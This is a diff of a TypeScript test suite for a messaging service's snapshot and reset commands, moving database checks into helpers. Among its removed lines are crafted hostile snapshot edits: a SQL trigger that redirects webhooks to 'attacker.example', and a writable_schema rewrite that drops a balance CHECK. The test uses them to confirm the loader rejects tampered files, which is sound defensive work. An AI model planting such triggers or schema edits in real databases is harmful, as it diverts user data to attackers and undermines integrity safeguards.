@@ -4,11 +4,11 @@ import { createHash } from 'node:crypto';
 import { execFileSync } from 'node:child_process';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import Database from 'better-sqlite3';
 import { spawn } from 'node:child_process';
 import { openSync, readSync, writeSync, closeSync, writeFileSync } from 'node:fs';
 import { assertBuilt, BIN_PATH, runSvcProcess } from './helpers/cli.js';
-import { startService as startInProcess } from '../src/server/main.js';
+import { startService as startInProcess } from '../src/testing/index.js';
+import { makeSnapshotOlder, snapshotIntegrity, snapshotMessageBodies, tamperSnapshot, type SnapshotTamper } from './helpers/inspect.js';
 import { openTerminal, shellEnvFor } from './helpers/terminal.js';
 
 // Snapshots and reset of a real local service process, driven by the real CLI.
@@ -184,18 +184,13 @@ describe('svc server snapshot', () => {
     stop = true;
     await writer;
     expect(saved.code, saved.stderr).toBe(0);
-    const db = new Database(join(dir, 'snapshots', 'busy.db'), { readonly: true });
-    try {
-      expect(db.pragma('integrity_check', { simple: true })).toBe('ok');
-      const inSnapshot = (db.prepare('SELECT COUNT(*) AS n FROM messages').get() as { n: number }).n;
-      expect(inSnapshot).toBeGreaterThanOrEqual(20);
-      expect(inSnapshot).toBeLessThanOrEqual(atSave + 1);
-      // Every message's conversation row is there: one transaction's writes, all or none.
-      const orphans = db.prepare('SELECT COUNT(*) AS n FROM messages m WHERE NOT EXISTS (SELECT 1 FROM conversations c WHERE c.account_id = m.account_id AND c.counterparty = m.counterparty)').get() as { n: number };
-      expect(orphans.n).toBe(0);
-    } finally {
-      db.close();
-    }
+    const snapshot = snapshotIntegrity(join(dir, 'snapshots', 'busy.db'));
+    expect(snapshot.integrity).toBe('ok');
+    const inSnapshot = snapshot.messages;
+    expect(inSnapshot).toBeGreaterThanOrEqual(20);
+    expect(inSnapshot).toBeLessThanOrEqual(atSave + 1);
+    // Every message's conversation row is there: one transaction's writes, all or none.
+    expect(snapshot.orphanMessages).toBe(0);
   }, 60_000);
 
   it('saves to and loads from a path of your own (a snapshot committed next to the tests)', async () => {
@@ -231,10 +226,7 @@ describe('svc server snapshot', () => {
     expect((await svc(dir, ['server', 'snapshot', 'save', 'old'])).code).toBe(0);
     // An older svc's snapshot: its newest migration is not this code's.
     const file = join(dir, 'snapshots', 'old.db');
-    const db = new Database(file);
-    const latest = (db.prepare('SELECT MAX(version) AS v FROM schema_migrations').get() as { v: number }).v;
-    db.prepare('DELETE FROM schema_migrations WHERE version = ?').run(latest);
-    db.close();
+    const latest = makeSnapshotOlder(file);
     expect((await send(dir, 'kept')).status).toBe(201);
     const pid = pidOf(dir);
 
@@ -346,9 +338,7 @@ describe('snapshots that cannot be loaded, and other bad input', () => {
     const fresh = join(newDataDir(), 'ci-data');
     const loaded = await svc(fresh, ['server', 'snapshot', 'load', seed]);
     expect(loaded.code, loaded.stderr).toBe(0);
-    const db = new Database(join(fresh, 'svc.db'), { readonly: true });
-    expect((db.prepare('SELECT body FROM messages').all() as Array<{ body: string }>).map((m) => m.body)).toEqual(['carried']);
-    db.close();
+    expect(snapshotMessageBodies(join(fresh, 'svc.db'))).toEqual(['carried']);
   }, 60_000);
 
   it('Ctrl-C during a load finishes it and starts the service again before ending (exit 130)', async () => {
@@ -415,12 +405,13 @@ describe('media and other services on the data directory', () => {
 
   it('reset and load refuse a directory a service without server.json is using (started from code); a second service on it is refused', async () => {
     const dir = newDataDir();
-    const running = await startInProcess({ host: '127.0.0.1', port: 0, dataDir: dir, clock: 'manual' });
+    // Started from code by svc/testing, as an app's test suite does: it writes no server.json.
+    const running = await startInProcess({ dataDir: dir, clock: 'manual' });
     try {
       expect(existsSync(join(dir, 'server.json'))).toBe(false);
       const sent = await fetch(new URL('/v1/messages', running.baseUrl), {
         method: 'POST',
-        headers: { authorization: `Bearer ${running.bootstrap.testKey}`, 'content-type': 'application/json' },
+        headers: { authorization: `Bearer ${running.testKey}`, 'content-type': 'application/json' },
         body: JSON.stringify({ from: '+15005550006', to: '+14155550123', body: 'kept' }),
       });
       expect(sent.status).toBe(201);
@@ -431,10 +422,10 @@ describe('media and other services on the data directory', () => {
         expect(refused.stderr).toContain('left no server.json');
         expect(refused.stderr).toContain('nothing was changed');
       }
-      const stillThere = await fetch(new URL('/v1/messages?limit=10', running.baseUrl), { headers: { authorization: `Bearer ${running.bootstrap.testKey}` } });
+      const stillThere = await fetch(new URL('/v1/messages?limit=10', running.baseUrl), { headers: { authorization: `Bearer ${running.testKey}` } });
       const bodies = ((await stillThere.json()) as { data: Array<{ body: string }> }).data.map((m) => m.body);
       expect(bodies).toEqual(['kept']);
-      await expect(startInProcess({ host: '127.0.0.1', port: 0, dataDir: dir, clock: 'manual' })).rejects.toThrow(`another svc service is running on ${dir}`);
+      await expect(startInProcess({ dataDir: dir, clock: 'manual' })).rejects.toThrow(`another svc service is running on ${dir}`);
       const second = await svc(dir, ['server', 'start', '--port', '0']);
       expect(second.code).toBe(5);
       expect(second.stderr).toContain(`another svc service is running on ${dir} but left no server.json`);
@@ -533,28 +524,18 @@ describe('snapshots from someone else', () => {
     expect((await call(dir, 'POST', '/v1/webhooks', { url: 'https://victim.example/hook' })).status).toBe(201);
     expect((await svc(dir, ['server', 'stop'])).code).toBe(0);
     const before = dataState(dir);
-    const crafted: Array<[string, string, string]> = [
-      ['trigger', "CREATE TRIGGER planted AFTER INSERT ON api_keys BEGIN UPDATE webhook_endpoints SET url = 'https://attacker.example/hook'; END", 'trigger "planted" on api_keys'],
-      ['view', 'CREATE VIEW planted_view AS SELECT body FROM messages', 'view "planted_view"'],
-      ['dropped', 'DROP TABLE sandbox_dns', 'table "sandbox_dns" is missing'],
-      ['column', 'ALTER TABLE messages ADD COLUMN planted TEXT', 'table "messages": extra column planted'],
-      ['index', 'CREATE INDEX planted_index ON messages(body)', 'index "planted_index" on messages'],
-      ['check', '', 'table "wallets": a column type, default or constraint'],
+    const crafted: Array<[SnapshotTamper, string]> = [
+      ['trigger', 'trigger "planted" on api_keys'],
+      ['view', 'view "planted_view"'],
+      ['dropped', 'table "sandbox_dns" is missing'],
+      ['column', 'table "messages": extra column planted'],
+      ['index', 'index "planted_index" on messages'],
+      ['check', 'table "wallets": a column type, default or constraint'],
     ];
-    for (const [name, sql, named] of crafted) {
+    for (const [name, named] of crafted) {
       const file = join(other, 'snapshots', `${name}.db`);
       copyFileSync(join(other, 'snapshots', 'good.db'), file);
-      const db = new Database(file);
-      if (sql) db.exec(sql);
-      else {
-        // A removed CHECK: the stored definition rewritten, as a hostile file can be.
-        const { sql: table } = db.prepare("SELECT sql FROM sqlite_master WHERE name = 'wallets'").get() as { sql: string };
-        db.unsafeMode(true);
-        db.pragma('writable_schema = ON');
-        db.prepare("UPDATE sqlite_master SET sql = ? WHERE name = 'wallets'").run(table.replace('CHECK (balance_cents >= 0)', ''));
-        db.pragma('writable_schema = OFF');
-      }
-      db.close();
+      tamperSnapshot(file, name);
       const refused = await svc(dir, ['server', 'snapshot', 'load', file]);
       expect(refused.code, `${name}: ${refused.stderr}`).toBe(2);
       expect(refused.stderr).toContain('is not an svc snapshot: its schema is not');
